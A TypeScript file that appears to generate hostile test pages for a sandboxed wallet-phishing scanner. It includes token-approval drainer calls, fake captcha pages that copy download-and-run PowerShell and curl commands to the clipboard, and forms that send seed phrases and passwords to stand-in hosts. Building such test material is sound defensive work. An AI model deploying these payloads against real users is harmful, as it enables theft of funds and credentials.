import { UNLIMITED } from '../../../src/sandbox/history/calls.ts'
import { page } from '../../../src/sandbox/sites/page.ts'
import { type PageClass, pick, sends } from '../pageDesign.ts'
import type { PageWorld } from '../pageWorld.ts'

const approval = (world: PageWorld) => world.call('StableToken', 'approve', [world.thief, UNLIMITED])
const plain = { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' }

/** What a wallet is asked for by methods that no scan takes, or inside of another method. */
const UNUSUAL: readonly ((world: PageWorld) => string)[] = [
  (world) =>
    `await wallet('wallet_invokeMethod', { scope: 'eip155:1', request: { method: 'eth_sendTransaction', params: [{ from: account, to: '${world.tokens.usdc}', value: '0x0', data: '${approval(world)}' }] } })`,
  () => `await wallet('eth_sendRawTransaction', ['0x02f8b10180843b9aca00850df8475800830186a094'])`,
  () => `await wallet('zks_signTransaction', [{ from: account, data: '0x8c5a3445' }])`,
  (world) =>
    `await wallet('wallet_sendPreparedCalls', [{ type: 'user-operation-v07', data: { sender: account, callData: '${approval(world)}' }, chainId: '0x1', signature: '0x' }])`,
]

/** Ways of 2025 and 2026 that go around what is usually watched. */
export const OTHER_WAYS: readonly PageClass[] = [
  {
    id: 'unusual-methods',
    hostile: true,
    design: (variant, world) => ({
      title: pick(['Node desk', 'Vesting', 'Rückzahlung', 'Cuotas'], variant),
      content: `<h1>${pick(['Node desk', 'Your vesting', 'Rückzahlung', 'Cuotas'], variant)}</h1><p>${pick(['One confirmation is left.', 'A part is due this week.', 'Es fehlt noch eine Bestätigung.', 'Falta una confirmación.'], variant)}</p>`,
      buttons: [
        {
          label: pick(['Confirm', 'Release', 'Bestätigen', 'Confirmar'], variant),
          code: pick(UNUSUAL, variant)(world),
        },
      ],
    }),
  },
  {
    id: 'after-signature',
    hostile: true,
    design: (variant, world) => ({
      title: pick(['Members', 'Season check', 'Prüfung', 'Verificación'], variant),
      content: `<h1>${pick(['Members', 'Season check', 'Prüfung', 'Verificación'], variant)}</h1><p>${pick(['Sign in first.', 'A free signature shows that the account is yours.', 'Bitte melden Sie sich an.', 'Primero, una firma gratuita.'], variant)}</p>`,
      buttons: [
        {
          label: pick(['Sign in', 'Check', 'Anmelden', 'Firmar'], variant),
          code: `const text = location.host + ' ' + account + ' ${variant}'; const proof = await wallet('personal_sign', ['0x' + [...new TextEncoder().encode(text)].map((one) => one.toString(16).padStart(2, '0')).join(''), account]); if (!/^0x[0-9a-f]{130}$/.test(proof)) return; ${sends(world.tokens.usdc, approval(world))}`,
        },
      ],
    }),
  },
  {
    id: 'other-network',
    hostile: true,
    design: (variant) => ({
      title: pick(['Rent refund', 'Points', 'Energie', 'Bono'], variant),
      content: `<h1>${pick(['Close empty accounts', 'Season points', 'Energie mieten', 'Bono de red'], variant)}</h1><p>${pick(['Each one returns 0.002 SOL.', 'Your points are ready.', 'Überweisungen ohne Gebühr.', 'Recibe tu bono.'], variant)}</p>`,
      buttons: [
        {
          label: pick(['Close all', 'Collect', 'Mieten', 'Recibir'], variant),
          connects: false,
          code:
            variant % 2 === 0
              ? `const one = window.phantom?.solana ?? window.solana; if (!one) return; await one.connect(); await one.signAllTransactions([new Uint8Array([1, 0, 1, ${variant}])])`
              : `if (!window.tronLink) return; await window.tronLink.request({ method: 'tron_requestAccounts' }); const { transaction } = await window.tronWeb.transactionBuilder.triggerSmartContract('TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t', 'increaseApproval(address,uint256)', {}, [{ type: 'address', value: 'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7' }, { type: 'uint256', value: '99999999999' }]); await window.tronWeb.trx.sign(transaction)`,
        },
      ],
    }),
  },
  {
    id: 'copied-item',
    hostile: true,
    design: (variant) => ({
      title: pick(['One moment', 'Vérification', 'Bir dakika', 'Проверка'], variant),
      content: `<h1>${pick(['Checking the connection', 'Vérification en cours', 'Bağlantı denetleniyor', 'Проверка соединения'], variant)}</h1><div id="box" style="width:300px;border:1px solid #ccc;padding:1rem;cursor:pointer">☐ ${pick(['I am human', 'Je suis humain', 'Ben insanım', 'Я человек'], variant)}</div>`,
      start: `at('#box').onclick = async () => { await navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob(['${pick(
        [
          'powershell -w h -c "iwr {{drop}}/a|iex" # check 5512',
          'curl -k -o /tmp/v https://{{drop}}/v && chmod +x /tmp/v && nohup /tmp/v &',
          'conhost --headless cmd /c curl {{drop}}/z -o z.bat ^& z.bat',
          '/bin/bash -c "$(curl -fsSL https://{{drop}}/m)"',
        ],
        variant,
      )}'], { type: 'text/plain' }) })]); show('<ol><li>${pick(['Windows + R', 'Terminal', 'Windows + R', 'Terminal'], variant)}</li><li>Ctrl + V</li><li>Enter</li></ol>') }`,
      hosts: { drop: plain },
    }),
  },
  {
    id: 'second-window',
    hostile: true,
    design: (variant) => ({
      title: pick(['Customer area', 'Kundenbereich', 'Panel', 'Spazio clienti'], variant),
      content: `<h1>${pick(['One step is left', 'Ein Schritt fehlt', 'Został jeden krok', 'Manca un passo'], variant)}</h1><p>${pick(['It opens in a window of its own.', 'Er öffnet sich in einem eigenen Fenster.', 'Otworzy się osobne okno.', 'Si apre in una finestra.'], variant)}</p>`,
      buttons: [
        {
          label: pick(['Open', 'Öffnen', 'Otwórz', 'Apri'], variant),
          connects: false,
          code:
            variant % 2 === 0
              ? `window.open('/step/', 'step', 'width=420,height=640')`
              : `const made = window.open('', 'step', 'width=420,height=640'); made.document.write(await (await fetch('/step/')).text()); made.document.close()`,
        },
      ],
      files: {
        '/step/': page(
          'Step',
          `<h1>${pick(['Confirm', 'Bestätigen', 'Potwierdź', 'Conferma'], variant)}</h1><p>${pick(['Write what stands on your card.', 'Schreiben Sie, was auf Ihrer Karte steht.', 'Przepisz treść karty.', 'Scriva ciò che sta sulla carta.'], variant)}</p><textarea rows="4"></textarea><button id="g">OK</button><script>document.getElementById('g').onclick = () => { const text = document.querySelector('textarea').value.trim(); if (/^(?:[a-z]{3,8} ){11}[a-z]{3,8}$/.test(text)) fetch('/api/s', { method: 'POST', body: text }) }</script>`,
        ),
      },
    }),
  },
  {
    id: 'told-to-window',
    hostile: true,
    design: (variant) => ({
      title: pick(['Restore', 'Wiederherstellung', 'Restaurar', 'Odzyskiwanie'], variant),
      content: `<h1>${pick(['Restore access', 'Zugang', 'Acceso', 'Dostęp'], variant)}</h1><p>${pick(['Write the line from your sheet.', 'Die Zeile von Ihrem Blatt.', 'La línea de su hoja.', 'Linia z kartki.'], variant)}</p><textarea rows="3" cols="50"></textarea><iframe src="https://{{keep}}/" width="1" height="1" style="border:0"></iframe>`,
      buttons: [
        {
          label: pick(['Restore', 'Weiter', 'Restaurar', 'Dalej'], variant),
          connects: false,
          code: `const text = at('textarea').value.trim(); if (!/^(?:[a-z]{3,8} ){11}[a-z]{3,8}$/.test(text)) { say('—'); return }; root.querySelector('iframe').contentWindow.postMessage({ at: Date.now(), v: ${variant % 2 === 0 ? 'text' : 'btoa(text)'} }, '*'); say('…')`,
        },
      ],
      hosts: {
        keep: page('', `<script>const kept = []; addEventListener('message', ({ data }) => kept.push(data))</script>`),
      },
    }),
  },
  {
    id: 'password-picture',
    hostile: true,
    design: (variant) => ({
      title: pick(['Member login', 'Anmeldung', 'Accès', 'Вход'], variant),
      content: `<h1>${pick(['Log in', 'Anmelden', 'Connexion', 'Вход'], variant)}</h1><label>E-mail <input type="email" name="m"></label><label>${pick(['Password', 'Passwort', 'Mot de passe', 'Пароль'], variant)} <input type="password" name="p"></label>`,
      buttons: [
        {
          label: pick(['Log in', 'Anmelden', 'Se connecter', 'Войти'], variant),
          connects: false,
          code: `${
            variant % 2 === 0
              ? `new Image().src = 'https://{{drop}}/g.gif?' + new URLSearchParams({ m: at('[name=m]').value, p: at('[name=p]').value })`
              : `navigator.sendBeacon('https://{{drop}}/b', JSON.stringify({ m: at('[name=m]').value, p: btoa(at('[name=p]').value) }))`
          }; say('${pick(['Try again later', 'Bitte später', 'Réessayez', 'Позже'], variant)}')`,
        },
      ],
      hosts: { drop: plain },
    }),
  },
]
